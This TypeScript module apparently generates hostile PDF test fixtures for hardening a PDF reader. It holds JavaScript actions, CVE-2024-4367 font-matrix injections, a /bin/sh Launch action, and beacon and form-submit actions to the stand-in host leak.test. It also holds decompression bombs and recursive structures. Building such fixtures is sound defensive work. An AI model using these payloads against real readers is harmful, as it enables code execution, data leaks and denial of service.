/**
 * PDFs that would run code, never end, or fill the memory in a reader that trusts them: actions and scripts, a font whose
 * matrix is code (CVE-2024-4367), trees that contain themselves, lying tables, packed nothing without end. Each is made
 * here, from a few objects.
 */
import { deflateSync } from 'node:zlib';

type Bytes = Uint8Array<ArrayBuffer>;

const FIRE = 'globalThis.fired = true';
const TEXT = 'BT /F1 18 Tf 72 700 Td (The bridge over the river was opened on Monday.) Tj ET';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

interface Parts {
  readonly catalog?: string;
  readonly pages?: string;
  readonly page?: string;
  readonly content?: string | Buffer;
  /** Of the content's dictionary. */
  readonly filter?: string;
  readonly font?: string;
  /** Objects from number 6 on. */
  readonly more?: readonly (string | Buffer)[];
  readonly trailer?: string;
  readonly isTableWrong?: boolean;
}

function pdf(parts: Parts): Bytes {
  const { catalog = '', pages, page = '', content = TEXT, filter = '', font = FONT, more = [] } = parts;
  const body = Buffer.from(content);
  const objects: (string | Buffer)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    Buffer.concat([
      Buffer.from(`<< /Length ${body.length} ${filter} >>\nstream\n`),
      body,
      Buffer.from('\nendstream'),
    ]),
    font,
    ...more,
  ];
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places: number[] = [];
  let length = pieces[0]?.length ?? 0;
  for (const [at, object] of objects.entries()) {
    const piece = Buffer.concat([
      Buffer.from(`${at + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    places.push(length);
    pieces.push(piece);
    length += piece.length;
  }
  const rows = places.map(
    (place) => `${String(parts.isTableWrong ? place + 7 : place).padStart(10, '0')} 00000 n \n`,
  );
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows.join('')}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${parts.trailer ?? ''} >>\nstartxref\n${length}\n%%EOF\n`;
  return Uint8Array.from(Buffer.concat([...pieces, Buffer.from(table + trailer)]));
}

const script = `<< /S /JavaScript /JS (${FIRE}; app.alert\\(1\\)) >>`;
const widget = (action: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 600 700] /A ${action} /AA << /E ${action} /PO ${action} >> >>`;
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A ${action} >>`;
const annotated = (annotation: string): Parts => ({ page: '/Annots [6 0 R]', more: [annotation] });
const matrixFont = (matrix: string) =>
  `<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FontMatrix [${matrix}] /FirstChar 32 /LastChar 33 /Widths [500 500] /FontDescriptor << /Type /FontDescriptor /FontName /Odd /FontMatrix [${matrix}] /Flags 4 >> >>`;
const zeros = (megabytes: number, layers = 1): Buffer => {
  let packed: Buffer = Buffer.alloc(megabytes * 2 ** 20, 0x20);
  for (let layer = 0; layer < layers; layer++) packed = deflateSync(packed);
  return packed;
};
const unicodeMap = (body: string) => `<< /Length ${body.length} >>\nstream\n${body}\nendstream`;
const mapped = (map: string): Parts => ({
  font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>',
  more: [unicodeMap(map)],
});
const shadow = 'begincmap 1 begincodespacerange <00> <FF> endcodespacerange';

/** By what is wrong with it. */
export const HOSTILE_PDFS: Readonly<Record<string, () => Bytes>> = {
  'script at opening': () => pdf({ catalog: `/OpenAction ${script}` }),
  'script at closing': () => pdf({ catalog: `/AA << /WC ${script} /WS ${script} /DP ${script} >>` }),
  'script of a page': () => pdf({ page: `/AA << /O ${script} /C ${script} >>` }),
  'script by name': () =>
    pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${script} (b) ${script}] >> >>` }),
  'script of a field': () =>
    pdf({ ...annotated(widget(script)), catalog: '/AcroForm << /Fields [6 0 R] >>' }),
  'script of a link': () => pdf(annotated(link(script))),
  'script in a stream': () =>
    pdf({
      catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
      more: [`<< /Length ${FIRE.length} >>\nstream\n${FIRE}\nendstream`],
    }),
  'script behind script': () =>
    pdf({ catalog: '/OpenAction 6 0 R', more: [`<< /S /JavaScript /JS (${FIRE}) /Next 6 0 R >>`] }),
  'XFA form': () =>
    pdf({
      catalog: '/AcroForm << /XFA 6 0 R >> /NeedsRendering true',
      more: [
        unicodeMap(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${FIRE}</script></event></subform></template></xdp:xdp>`,
        ),
      ],
    }),
  'font matrix that is code': () => pdf({ font: matrixFont(`1 2 3 4 5 (0\\); ${FIRE}//)`) }),
  'font matrix that closes the call': () =>
    pdf({ font: matrixFont(`0.001 0 0 0.001 0 (0]\\); ${FIRE}; \\(\\[0)`) }),
  'font name that is code': () =>
    pdf({
      font: `<< /Type /Font /Subtype /Type1 /BaseFont /A#27#29#3B${FIRE.replaceAll(' ', '#20')}#2F#2F >>`,
    }),
  'sampled function that is code': () =>
    pdf({
      content: `/P sh ${TEXT}`,
      page: '/Group << /S /Transparency >>',
      more: [
        `<< /FunctionType 4 /Domain [0 1] /Range [0 1] /Length 30 >>\nstream\n{ (${FIRE}) cvx exec }\nendstream`,
      ],
    }),
  'launches a program': () => pdf({ catalog: '/OpenAction << /S /Launch /F (/bin/sh) /NewWindow true >>' }),
  'goes to an address': () => pdf({ catalog: '/OpenAction << /S /URI /URI (http://leak.test/opened) >>' }),
  'link to a script': () => pdf(annotated(link(`<< /S /URI /URI (javascript:${FIRE}) >>`))),
  'sends a form': () => pdf(annotated(widget('<< /S /SubmitForm /F (http://leak.test/sent) /Flags 4 >>'))),
  'another file': () =>
    pdf({ catalog: '/OpenAction << /S /GoToR /F (http://leak.test/other.pdf) /D [0 /Fit] >>' }),
  'embedded file': () =>
    pdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /EF << /F 6 0 R >> >>] >> >>',
      more: [unicodeMap(`<script>${FIRE}</script>`)],
    }),
  'picture from outside': () =>
    pdf({
      content: `/I Do ${TEXT}`,
      page: '/XO 6 0 R',
      more: [
        '<< /Type /XObject /Subtype /Image /F (http://leak.test/i.png) /Length 0 >>\nstream\n\nendstream',
      ],
    }),
  'pages that contain themselves': () => pdf({ pages: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>' }),
  'pages in a ring': () =>
    pdf({
      pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
      more: [
        '<< /Type /Pages /Kids [7 0 R] /Parent 2 0 R >>',
        '<< /Type /Pages /Kids [6 0 R] /Parent 6 0 R >>',
      ],
    }),
  'a billion pages': () => pdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>' }),
  'fewer than no pages': () => pdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' }),
  'one page ten thousand times': () =>
    pdf({ pages: `<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>` }),
  'a length that is itself': () => pdf({ filter: '/Length 4 0 R' }),
  'a length without end': () => pdf({ filter: '/Length 99999999999' }),
  'a table that points nowhere': () => pdf({ isTableWrong: true }),
  'a table before itself': () => pdf({ trailer: '/Prev 15' }),
  'a table in a ring': () => {
    const bytes = Buffer.from(pdf({ trailer: '/Prev 0000000000' }));
    const text = bytes.toString('latin1');
    const start = text.lastIndexOf('xref\n0 ');
    return Uint8Array.from(
      Buffer.from(text.replace('/Prev 0000000000', `/Prev ${String(start).padStart(10, '0')}`), 'latin1'),
    );
  },
  'arrays without end': () => pdf({ catalog: `/Odd ${'['.repeat(200_000)}` }),
  'dictionaries without end': () => pdf({ catalog: `/Odd ${'<</a '.repeat(100_000)}` }),
  'text within text': () => pdf({ content: `${'q '.repeat(500_000)}${TEXT}` }),
  'a form that draws itself': () =>
    pdf({
      content: `/X Do ${TEXT}`,
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
      more: [
        '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 10 >>\nstream\n/X Do /X Do\nendstream',
      ],
    }),
  'packed nothing': () => pdf({ content: zeros(512), filter: '/Filter /FlateDecode' }),
  'packed nothing, twice': () =>
    pdf({ content: zeros(512, 2), filter: '/Filter [/FlateDecode /FlateDecode]' }),
  'a filter that is not there': () => pdf({ filter: '/Filter /NoSuchDecode' }),
  'thousands of filters': () => pdf({ filter: `/Filter [${'/ASCIIHexDecode '.repeat(5_000)}]` }),
  'letters that mean a book': () =>
    pdf(mapped(`${shadow} 1 beginbfchar <41> <${'0041'.repeat(50_000)}> endbfchar endcmap`)),
  'a range of letters without end': () =>
    pdf(mapped(`${shadow} 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap`)),
  'letters that use their own table': () => pdf(mapped(`/Odd usecmap ${shadow} endcmap`)),
  'locked with a password': () =>
    pdf({
      trailer: `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> >> /ID [<00> <00>]`,
    }),
  'nothing behind its name': () => Uint8Array.from(Buffer.from('%PDF-1.7\n')),
  'another file before it': () =>
    Uint8Array.from(Buffer.concat([Buffer.from(`<script>${FIRE}</script>`), Buffer.from(pdf({}))])),
};
